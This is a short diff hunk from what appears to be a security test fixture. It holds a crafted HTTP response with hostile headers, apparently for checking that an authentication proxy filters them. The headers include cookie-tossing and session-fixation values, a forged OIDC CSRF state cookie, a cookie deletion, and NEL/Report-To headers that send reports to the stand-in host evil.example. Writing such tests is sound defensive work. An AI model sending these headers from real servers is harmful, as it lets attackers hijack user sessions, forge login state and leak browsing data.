@@ -562,8 +562,8 @@ Set-Cookie: theme=dark; Path=/up/\r\n\
 Set-Cookie: =authservice_session=ATTACKERS; Path=/victim/\r\n\
 NEL: {\"report_to\":\"g\",\"max_age\":31536000,\"success_fraction\":1}\r\n\
 Report-To: {\"group\":\"g\",\"max_age\":31536000,\"endpoints\":[{\"url\":\"https://evil.example\"}]}\r\n\
-Set-Cookie: oidc_state_csrf=FORGED; Path=/authservice/\r\n\
-set-cookie: kfsec_upstream_login=; Max-Age=0\r\n\
+Set-Cookie: __Host-oidc_state_csrf=FORGED; Path=/; Secure\r\n\
+set-cookie: __host-kfsec_upstream_login=; Max-Age=0\r\n\
 Clear-Site-Data: \"cookies\", \"storage\"\r\n\
 Accept-CH: Sec-CH-UA-Full-Version-List, Device-Memory\r\n\
 Origin-Agent-Cluster: ?0\r\n\
